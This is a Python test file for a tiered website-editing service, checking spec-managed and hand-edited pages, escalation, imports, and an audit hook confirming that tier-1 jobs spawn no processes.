@pytest.mark.parametrize("tag", ["down", "cut"])
def test_a_provider_that_is_down_or_breaks_off_makes_the_job_wait_and_costs_it_no_attempt(rig: Rig, tag: str) -> None:
    site = rig.site()
    before = rig.shown(site)
    job = rig.edit(f"{BY_MODEL} [rehearse:{tag}]", site)
    assert (job.state, job.held_for, job.lost_attempts) == ("queued", "provider", 0)
    assert rig.shown(site) == before


def test_a_question_about_a_site_is_answered_and_billed(rig: Rig) -> None:
    job_id = rig.shop.accept(tier=None, prompt="What is on the front page?", site_id=rig.site())
    job = rig.run(job_id, answer_question)
    assert job.state == "answered"
    assert job.result["answer"]
    assert job.result["model_turns"] == len(rig.calls())


BISTRO = Path(__file__).parents[2] / "data" / "direct" / "bistro"
BY_HAND = (b"</main>", b"<p>Closed for a private party on Friday.</p></main>")


def edit_file(rig: Rig, site_id: UUID, path: str, old: bytes, new: bytes) -> None:
    """Do what tier 2 does: offer the site's files with a change in one of them, and publish."""

    def patch(attempt: Attempt) -> Outcome:
        files = dict(attempt.base_files)
        assert files[path].count(old) == 1
        files[path] = files[path].replace(old, new)
        return Candidate(files, "By hand.")

    publish(rig, rig.run(rig.shop.accept(prompt="Add a note", site_id=site_id, tier=Tier.PATCH), patch))


def publish(rig: Rig, job: Job) -> None:
    assert job.state == "awaiting_approval", (job.state, job.detail)
    rig.shop.approve(job.id)
    run_control(rig.shop.message(job.id), rig.resources)
    assert rig.shop.job(job.id).state == "published"


def test_spec_then_file_then_spec_keeps_both_changes(rig: Rig) -> None:
    site = rig.site()
    publish(rig, rig.edit(DIRECT, site))
    edit_file(rig, site, "index.html", *BY_HAND)
    job = rig.edit("Change the price of First loaf to €80", site)
    assert job.result["how"] == "direct edit, no model"
    assert job.result["pages"] == "classes.html: spec-managed"
    publish(rig, job)
    shown = rig.shown(site)
    assert b"Bread since 1932" in shown["index.html"]
    assert BY_HAND[1] in shown["index.html"]
    assert "€80".encode() in shown["classes.html"]
    assert rig.calls() == []


def test_a_detached_page_is_edited_in_place_and_stays_detached(rig: Rig) -> None:
    site = rig.site()
    edit_file(rig, site, "index.html", *BY_HAND)
    before = rig.shown(site)
    job = rig.edit("Replace 'a private party' with 'a wedding'", site)
    assert job.result["how"] == "direct edit of plain HTML, no model"
    assert job.result["pages"].startswith("index.html: plain HTML")
    after = rig.files(job.release_id)
    assert after == before | {"index.html": before["index.html"].replace(b"a private party", b"a wedding")}


def test_an_edit_of_a_page_says_which_languages_of_it_it_left_as_they_were(rig: Rig) -> None:
    site = rig.site()
    publish(rig, rig.edit("Add a German version of the site", site))
    job = rig.edit("Change the price of Dark rye to €6.20", site)
    assert job.result["how"] == "direct edit, no model"
    assert job.result["summary"].endswith("Note: de/index.html in another language stays as it was.")
    assert "stays" not in rig.edit("Change the primary color to teal", rig.site("other")).result["summary"]


def test_a_page_edited_by_hand_gets_no_version_and_the_others_do(rig: Rig) -> None:
    site = rig.site()
    edit_file(rig, site, "classes.html", b"</main>", b"<p>by hand</p></main>")
    job = rig.edit("Add a German version of the site", site)
    assert job.state == "awaiting_approval"
    assert job.result["summary"] == (
        "In a further language: de/index.html. Note: classes.html stays as it is, as it was edited by hand."
    )
    assert rig.files(job.release_id)["classes.html"] == rig.shown(site)["classes.html"]


def test_a_page_whose_edit_the_spec_can_hold_comes_back_to_it(rig: Rig) -> None:
    site = rig.site()
    edit_file(rig, site, "index.html", b"Bread with the patience left in", b"Bread by patience")
    job = rig.edit("Change the hero heading to 'Bread since 1932'", site)
    assert job.result["how"] == "direct edit, no model"
    assert job.result["pages"] == "index.html: spec-managed"
    assert rig.files(job.release_id)["index.html"] == rig.shown(site)["index.html"].replace(
        b"Bread by patience", b"Bread since 1932"
    )


def test_a_text_that_a_page_of_either_kind_has_is_not_changed_on_one_of_them(rig: Rig) -> None:
    site = rig.site()
    edit_file(rig, site, "index.html", b"</main>", b"<p>Learn it with your hands</p></main>")
    job = rig.edit("Replace 'Learn it with your hands' with 'X'", site)
    assert (job.state, job.queue) == ("queued", "patch")


def test_a_site_of_both_kinds_is_exported_so_that_it_can_be_imported_again(rig: Rig, tmp_path: Path) -> None:
    site = rig.site()
    edit_file(rig, site, "index.html", *BY_HAND)
    sites = Sites(rig.shop.ledger, rig.resources.content_store, rig.shop.policy)
    write_directory(sites.read("acme", "bakery")[1], tmp_path / "out")
    sites.import_site("acme", "copy", tmp_path / "out")
    copy: UUID = rig.shop.scalar("SELECT id FROM site WHERE name = 'copy'")
    assert rig.shown(copy) == rig.shown(site)


def test_an_edit_that_needs_pages_of_both_kinds_goes_to_the_next_tier_with_the_reason(rig: Rig) -> None:
    site = rig.site()
    edit_file(rig, site, "index.html", *BY_HAND)
    edit_file(rig, site, "styles.css", b"\nbody {", b"\nbody  {")
    before = rig.shown(site)
    for prompt, detail in (
        ("Change the primary color to teal", "styles.css"),
        ("Change the phone number to +44 1632 960 999", "index.html"),
        ("Remove the gallery", "index.html"),
        ("Replace 'Hearth & Grain' with 'Holm' everywhere", "index.html"),
    ):
        job = rig.edit(prompt, site)
        assert (job.state, job.queue) == ("queued", "patch"), prompt
        escalated = "SELECT data FROM event WHERE kind = 'escalated' AND job_id = :id"
        (event,) = rig.shop.rows(escalated, id=job.id)
        assert event.data["reason"] == "not_spec_managed"
        assert detail in event.data["detail"]
        assert rig.shown(site) == before
        assert rig.calls() == []
        rig.shop.cancel(job.id)


def test_a_model_edit_never_overwrites_a_detached_page(rig: Rig) -> None:
    site = rig.site()
    edit_file(rig, site, "index.html", *BY_HAND)
    job = rig.edit(BY_MODEL, site)
    changed = rig.files(job.release_id) if job.release_id else rig.shown(site)
    assert BY_HAND[1] in changed["index.html"]
    assert changed["index.html"] == rig.shown(site)["index.html"]


def import_bistro(rig: Rig) -> UUID:
    Sites(rig.shop.ledger, rig.resources.content_store, rig.shop.policy).import_site("acme", "bistro", BISTRO)
    site_id: UUID = rig.shop.scalar("SELECT id FROM site WHERE name = 'bistro'")
    return site_id


def test_an_imported_site_is_edited_in_place_for_nothing(rig: Rig) -> None:
    site = import_bistro(rig)
    before = rig.shown(site)
    job = rig.edit("Change 'Food from the harbour' to 'Fish from the harbour'", site)
    assert (job.state, job.result["how"]) == ("awaiting_approval", "direct edit of plain HTML, no model")
    assert job.result["pages"] == "index.html: plain HTML, for the site was imported without a spec"
    after = rig.files(job.release_id)
    assert after == before | {"index.html": before["index.html"].replace(b"Food from", b"Fish from")}
    assert (rig.calls(), rig.shop.scalar("SELECT count(*) FROM call")) == ([], 0)


@pytest.mark.parametrize("prompt", ["Make the headline friendlier", "Change 'Menu' to 'Food'"])
def test_any_other_edit_of_an_imported_site_is_for_the_next_tier(rig: Rig, prompt: str) -> None:
    job = rig.edit(prompt, import_bistro(rig))
    assert (job.state, job.queue) == ("queued", "patch")
    (event,) = rig.shop.rows("SELECT data FROM event WHERE kind = 'escalated'")
    assert "imported without a spec" in event.data["detail"]
    assert rig.calls() == []


PROCESSES = ("subprocess.Popen", "os.fork", "os.forkpty", "os.posix_spawn", "os.exec", "os.system", "os.spawn")
watched: list[str] | None = None


def note(event: str, arguments: tuple[object, ...]) -> None:
    """Keep what this process starts and whom it calls, while a test watches."""
    if watched is not None and event in PROCESSES:
        watched.append(event)
    if watched is not None and event == "socket.connect" and isinstance(arguments[1], str | bytes):
        watched.append(f"socket {arguments[1]!r}")  # the engine's socket is a path, which it is for nothing else here


@cache
def listen() -> None:
    sys.addaudithook(note)  # for the rest of the process: a hook cannot be taken back


@contextmanager
def watching() -> Iterator[list[str]]:
    """Yield the processes that are started meanwhile, and the sockets of an engine that are called."""
    global watched
    listen()
    seen: list[str] = []
    watched = seen
    try:
        yield seen
    finally:
        watched = None
        seen[:] = [what for what in seen if "PGSQL" not in what]


@pytest.mark.req("H-013", "H-014", "H-023", "H-088", "H-094", "H-108", "H-119")
@pytest.mark.parametrize("prompt", [DIRECT, BY_MODEL, "Change 'daily' to 'always'", "Make everything friendlier"])
def test_a_tier_1_job_starts_no_process_and_asks_no_engine(rig: Rig, prompt: str) -> None:
    assert rig.shop.policy.queues[QueueName.SPEC].container == "none"
    job_id = rig.shop.accept(prompt=prompt, site_id=rig.site())
    with watching() as seen:
        job = rig.run(job_id)
    assert (job.state, seen) == ("awaiting_approval", [])
    assert {tool for call in rig.calls() for tool in call.tools} <= {"edit_site"}
